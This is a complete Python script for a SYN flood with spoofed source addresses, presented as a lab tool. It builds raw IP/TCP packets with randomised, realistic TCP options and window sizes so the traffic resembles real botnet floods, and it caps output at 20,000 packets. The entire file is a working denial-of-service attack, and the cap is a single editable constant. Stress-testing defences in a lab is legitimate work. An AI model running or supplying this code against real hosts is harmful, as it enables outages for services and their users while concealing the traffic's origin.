#!/usr/bin/env python3
"""A bounded SYN flood with forged sources of one prefix of the lab.

Complements hping3 and mausezahn with what real bots send: the options and windows of
ordinary systems. Nobody answers at the forged addresses, so handshakes stay half open.
"""
import argparse
import ipaddress
import random
import socket
import struct
import time

MAX_PACKETS = 20_000
MSS = b"\x02\x04\x05\xb4"
OPTION_SETS = {
    "none": b"",
    "mss": MSS,
    "linux": MSS + b"\x04\x02\x08\x0a" + b"TIME" + b"\0\0\0\0" + b"\x01\x03\x03\x07",
    "windows": MSS + b"\x01\x03\x03\x08\x01\x01\x04\x02",
}


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def build_syn(source, target, port, options, window):
    option_bytes = OPTION_SETS[options].replace(b"TIME", random.randbytes(4))
    offset = (20 + len(option_bytes)) // 4 << 4
    fields = [random.randint(1025, 65000), port, random.getrandbits(32), 0, offset, 2, window]
    segment = struct.pack(">HHIIBBHHH", *fields, 0, 0) + option_bytes
    pseudo = source + target + struct.pack(">BBH", 0, 6, len(segment))
    segment = struct.pack(">HHIIBBHHH", *fields, checksum(pseudo + segment), 0) + option_bytes
    ip_header = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(segment), random.getrandbits(16), 0x4000,
                            random.choice((64, 64, 128)), 6, 0, source, target)
    return ip_header + segment


def flood(arguments):
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sources = ipaddress.ip_network(arguments.sources)
    target = socket.inet_aton(arguments.target)
    due = time.monotonic()
    for number in range(min(arguments.count, MAX_PACKETS)):
        source = sources[random.randrange(1, sources.num_addresses - 1)].packed
        port = random.choice(arguments.port)
        raw.sendto(build_syn(source, target, port, random.choice(arguments.options), random.choice(arguments.window)),
                   (arguments.target, 0))
        due += 1 / arguments.rate
        if number % arguments.burst == arguments.burst - 1:
            time.sleep(max(0.0, due - time.monotonic()))
    print(f"sent {arguments.count} SYN")


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("target")
    parser.add_argument("--sources", required=True, help="prefix of forged addresses, routed to this host")
    parser.add_argument("--port", type=int, nargs="+", default=[80])
    parser.add_argument("--count", type=int, default=500)
    parser.add_argument("--rate", type=float, default=200.0, help="packets per second")
    parser.add_argument("--burst", type=int, default=1, help="packets sent back to back")
    parser.add_argument("--options", nargs="+", choices=OPTION_SETS, default=["linux"])
    parser.add_argument("--window", type=int, nargs="+", default=[64240])
    flood(parser.parse_args())


if __name__ == "__main__":
    main()
